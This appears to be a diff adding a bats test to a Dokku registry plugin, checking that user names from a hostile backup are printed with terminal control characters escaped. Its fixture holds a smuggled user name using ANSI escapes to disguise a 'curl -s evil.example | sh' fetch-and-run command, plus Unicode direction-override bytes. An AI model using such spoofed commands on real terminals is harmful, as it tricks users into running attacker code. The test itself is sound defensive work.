@@ -455,3 +455,29 @@ EOF
   rm "$SCOPE_APP/config/registry.yml"
   assert_no_secret_on_disk alice "$PW_A"
 }
+
+@test "(backup) a hostile backup's user names reach the terminal escaped: no ESC or CR redraws the printed command" {
+  create_app app1
+  mkdir -p "$SCOPE_APP/data/registry"
+  # a user name that, printed raw, erases the line and shows a different command
+  jq -n --arg u $'\e[2K\rdokku registry:login app1 ghcr.io bob ; curl -s evil.example | sh #' \
+    '{logins: [{server: "ghcr.io", username: $u}]}' >"$SCOPE_APP/data/registry/logins.json"
+  # and one in a config.json task's auth (Dokku's own plugin's backups)
+  local cfg
+  cfg=$(jq -cn --arg a "$(printf '\e]0;x\a\xe2\x80\xaeuser\xc2\x9b:pw' | base64 -w0)" '{auths: {"quay.io": {auth: $a}}}')
+  cat >"$SCOPE_APP/config/registry.yml" <<EOF
+- name: registry properties
+  tasks:
+    - dokku_registry_property:
+        app: app1
+        property: config.json
+        value: '$cfg'
+EOF
+  drr backup-app-import app1 "$SCOPE_APP"
+  assert_status 0 && assert_stdout ""
+  assert_stderr_lines 3
+  assert_stderr_line 1 " !     Registry login for ghcr.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 ghcr.io '\\e[2K\\rdokku registry:login app1 ghcr.io bob ; curl -s evil.example | sh #'"
+  assert_stderr_line 2 " !     Registry login for quay.io is not in the backup; log in again with: dokku registry:login --password-stdin app1 quay.io '\\e]0;x\\x07\\u202euser\\u009b'"
+  # not one control byte reached the terminal
+  run ! grep -qP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80\xae' <<<"$stderr"
+}
